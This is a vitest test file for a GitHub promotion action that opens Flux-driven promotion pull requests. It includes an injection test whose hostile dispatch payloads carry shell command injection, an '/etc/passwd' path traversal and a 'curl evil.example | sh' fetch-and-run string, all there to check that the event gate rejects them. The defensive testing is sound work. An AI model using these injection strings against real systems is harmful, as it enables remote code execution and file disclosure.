import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cleanupGitRepos, git, listBranches, runAction, type ActionRun } from '@carbon/github/testing';
import { createFixture, fluxEvent, REPO, startBranchSyncProxy, type BranchSyncProxy, type Fixture } from '../../../../packages/promote/test/fixture.ts';

/**
 * The bundled promote action run the way the runner runs it (runAction: INPUT_*, the event file,
 * GITHUB_OUTPUT / GITHUB_STEP_SUMMARY) in a workflow checkout of a tiny fixture platform whose
 * origin is a real bare repository, against the GitHub API double.
 */

const ACTION = resolve(import.meta.dirname, '..');

/** The fixture platform's own generator, as `packages/cli/bin/platform.mjs` is the real repo's: one GitRepository per pin. */
const GENERATOR = `import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
if (process.argv[2] !== 'generate') process.exit(2);
mkdirSync('clusters/multi-node/apps', { recursive: true });
let service;
for (const line of readFileSync('clusters/multi-node/pins.yaml', 'utf8').split('\\n')) {
  const name = /^  ([a-z0-9-]+):$/.exec(line);
  if (name) service = name[1];
  const commit = /^    commit: ([0-9a-f]{40})$/.exec(line);
  if (commit && service) writeFileSync(\`clusters/multi-node/apps/\${service}.yaml\`, \`kind: GitRepository\\nmetadata: { name: \${service} }\\nspec: { ref: { commit: \${commit[1]} } }\\n\`);
}
`;

/** Soak, no freeze window: the run's clock is the real one, whatever day the tests run. */
const POLICY = `apiVersion: platform.254carbon.com/v1alpha1
kind: PromotionPolicy
defaults:
  soak: 30m
services:
  vault: { approval: true, soak: 0m }
`;

let f: Fixture;
let proxy: BranchSyncProxy;
let pushLog: string;
const pushes = () => (existsSync(pushLog) ? readFileSync(pushLog, 'utf8').split('\n').filter(Boolean).length : 0);
const writes = () => f.double.requests.filter((r) => r.method !== 'GET').length;

function dispatch(payload: Record<string, unknown>): Record<string, unknown> {
  // What GitHub writes to GITHUB_EVENT_PATH for a repository_dispatch: event_type arrives as `action`.
  return { action: payload.event_type, branch: 'main', client_payload: payload.client_payload, repository: { full_name: REPO }, sender: { login: 'flux-bot' } };
}

function runPromote(eventName: string, event: unknown, inputs: Record<string, string>): Promise<ActionRun> {
  return runAction({
    actionDir: ACTION,
    eventName,
    event,
    inputs,
    cwd: f.checkout.path,
    repository: REPO,
    env: { GITHUB_API_URL: proxy.url, CARBON_GITHUB_RETRY_BASE_MS: '10', CARBON_GITHUB_WRITE_INTERVAL_MS: '0' },
    timeoutMs: 120_000,
  });
}

const minutesAgo = (n: number) => new Date(Date.now() - n * 60_000).toISOString().replace(/\.\d+Z$/, 'Z');

beforeAll(async () => {
  f = await createFixture();
  pushLog = join(f.origin.path, 'pushes.log');
  // Every push that reaches origin, accepted or not, is one line per ref here.
  writeFileSync(join(f.origin.path, 'hooks', 'pre-receive'), `#!/bin/sh\ncat >> '${pushLog}'\n`);
  chmodSync(join(f.origin.path, 'hooks', 'pre-receive'), 0o755);
  await f.commitMain({ 'packages/cli/bin/platform.mjs': GENERATOR, 'platform/promotion.yaml': POLICY }, 'fixture generator; policy without freeze');
  proxy = await startBranchSyncProxy(f.double, f.origin, REPO);
}, 60_000);

afterAll(async () => {
  f.double.assertNoViolations();
  await proxy.close();
  await f.double.close();
  await cleanupGitRepos();
});

describe('bundled promote action', () => {
  beforeAll(() => {
    // The bundle is committed: a missing one is a failure, never a skip.
    if (!existsSync(join(ACTION, 'dist/index.js'))) throw new Error('dist/index.js is missing: run `npm run bundle`');
  });
  let revision = '';
  let event: Record<string, unknown> = {};

  it.each([
    ['shell metacharacters in involvedObject.name', (p: any) => { p.client_payload.involvedObject.name = `trino;touch ${join(tmpdir(), 'carbon-pwned')}`; }, 'involvedObject.name'],
    ['shell metacharacters in the event type too', (p: any) => { p.client_payload.involvedObject.name = `trino$(touch ${join(tmpdir(), 'carbon-pwned')})`; p.event_type = `Kustomization/${p.client_payload.involvedObject.name}.flux-system`; }, 'action'],
    ['path traversal in the revision', (p: any) => { p.client_payload.metadata.revision = 'main@sha1:../../../../etc/passwd'; }, 'metadata.revision'],
    ['command substitution in the message', (p: any) => { p.client_payload.message = 'Applied $(curl evil.example | sh)'; }, 'message'],
  ])('a hostile dispatch (%s) fails the step with an ::error, no push, no API call', async (_name, mutate, field) => {
    const payload = fluxEvent({ revision: 'a'.repeat(40), timestamp: minutesAgo(1) });
    mutate(payload);
    const [pushesBefore, requestsBefore] = [pushes(), f.double.requests.length];
    const result = await runPromote('repository_dispatch', dispatch(payload), { mode: 'event' });
    expect(result.exitCode).not.toBe(0);
    const errors = result.annotations.filter((a) => a.level === 'error');
    expect(errors).toHaveLength(1);
    expect(errors[0]!.message).toContain(field);
    expect(errors[0]!.message).toMatch(/^rejected by the event gate/);
    expect(result.outputs.outcome).toBe('rejected');
    expect(pushes()).toBe(pushesBefore);
    expect(f.double.requests.length).toBe(requestsBefore);
    expect(existsSync(join(tmpdir(), 'carbon-pwned'))).toBe(false);
    expect(Object.keys(await listBranches(f.origin))).toEqual(['main']);
  });

  it('a healthy Flux dispatch opens exactly one promotion PR; outputs and the job summary say so', async () => {
    revision = await f.commitMain({ 'apps/trino/deploy/overlays/multi-node/kustomization.yaml': 'resources: [../../base]\nreplicas: [{ name: trino, count: 3 }]\n' }, 'trino: 3 replicas on multi-node');
    await git(f.checkout.path, ['pull', '--quiet', '--ff-only', 'origin', 'main']); // actions/checkout of main
    event = dispatch(fluxEvent({ revision, timestamp: minutesAgo(2) }));
    const pushesBefore = pushes();
    const result = await runPromote('repository_dispatch', event, { mode: 'event' });
    expect(result.stderr).not.toMatch(/Error/);
    expect(result.annotations.filter((a) => a.level === 'error')).toEqual([]);
    expect(result.exitCode).toBe(0);
    expect(result.outputs).toMatchObject({ outcome: 'opened', 'pull-request': '1', service: 'trino' });
    expect(result.outputs.reason).toContain('opened #1');
    expect(result.summary).toContain('| gate | result | detail |');
    expect(result.summary).toMatch(/\| on-main \| ✅ pass \|/);
    expect(result.summary).toMatch(/\| soak \| ⏳ wait \| soaking on single-node until/);
    const prs = f.double.pullRequests(REPO);
    expect(prs).toHaveLength(1);
    expect(prs[0]).toMatchObject({ number: 1, head: 'promote/trino', base: 'main', state: 'open' });
    expect(prs[0]!.body).toContain('trino: 3 replicas on multi-node');
    expect(f.double.labels(REPO, 1)).toEqual(expect.arrayContaining(['promotion', 'service:trino']));
    expect(pushes() - pushesBefore).toBe(1);
    expect(await git(f.origin.path, ['show', 'promote/trino:clusters/multi-node/pins.yaml'])).toContain(`commit: ${revision}`);
    // The checkout's own generator ran in the promotion worktree.
    expect(await git(f.origin.path, ['show', 'promote/trino:clusters/multi-node/apps/trino.yaml'])).toContain(revision);
    expect(await git(f.origin.path, ['log', '-1', '--format=%B', 'promote/trino'])).toContain('Promoted-Service: trino');
  }, 120_000);

  it('the same dispatch replayed changes nothing: no push, no GitHub write, still one PR', async () => {
    expect(revision).not.toBe('');
    const [pushesBefore, writesBefore] = [pushes(), writes()];
    const result = await runPromote('repository_dispatch', event, { mode: 'event' });
    expect(result.exitCode).toBe(0);
    expect(result.outputs).toMatchObject({ outcome: 'unchanged', 'pull-request': '1', service: 'trino' });
    expect(pushes()).toBe(pushesBefore);
    expect(writes()).toBe(writesBefore);
    expect(f.double.pullRequests(REPO)).toHaveLength(1);
  }, 120_000);

  it('the schedule re-evaluates open promotions (soak still running: waiting, not merged)', async () => {
    const listsBefore = f.double.requestsFor('pulls/list').length;
    const result = await runPromote('schedule', { schedule: '17,47 * * * *' }, { mode: 'reevaluate' });
    expect(result.exitCode).toBe(0);
    expect(result.outputs).toMatchObject({ outcome: 'reevaluated', 'pull-request': '1' });
    expect(result.outputs.reason).toBe('#1 trino waiting');
    expect(result.summary).toContain('Promotion re-evaluation: 1 pending');
    expect(result.summary).toMatch(/\| soak \| ⏳ wait \|/);
    expect(f.double.requestsFor('pulls/list').length).toBeGreaterThan(listsBefore);
    expect(f.double.requestsFor('pulls/merge')).toHaveLength(0);
    expect(f.double.pullRequests(REPO)[0]!.state).toBe('open');
  }, 120_000);

  it('mode event on a schedule run is refused with an ::error naming the input', async () => {
    const result = await runPromote('schedule', { schedule: '17,47 * * * *' }, { mode: 'event' });
    expect(result.exitCode).not.toBe(0);
    expect(result.annotations.find((a) => a.level === 'error')?.message).toMatch(/^input "mode": "event" needs a repository_dispatch event/);
  });
});
